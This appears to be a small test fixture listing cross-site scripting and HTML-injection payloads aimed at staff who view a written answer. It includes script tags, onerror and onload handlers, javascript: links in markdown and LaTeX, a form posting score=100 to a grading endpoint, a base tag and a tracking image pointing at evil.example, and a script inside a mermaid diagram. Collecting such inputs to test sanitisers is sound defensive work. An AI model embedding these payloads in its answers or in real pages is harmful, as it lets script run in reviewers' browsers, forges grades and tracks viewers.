# attacks = "staff's browser, by scripts, frames, forms and foreign pictures in a written answer"
# %% why
<script>alert(1)</script> <img src=x onerror=alert(1)> <iframe srcdoc='<p>'></iframe> <svg onload=alert(1)></svg>
<form action=/api/grade><input name=score value=100></form> <base href=//evil.example> [x](javascript:alert(1))
![seen](https://evil.example/seen.png) $\href{javascript:alert(1)}{x}$
```mermaid
graph TD; A[<script>alert(1)</script>]
```
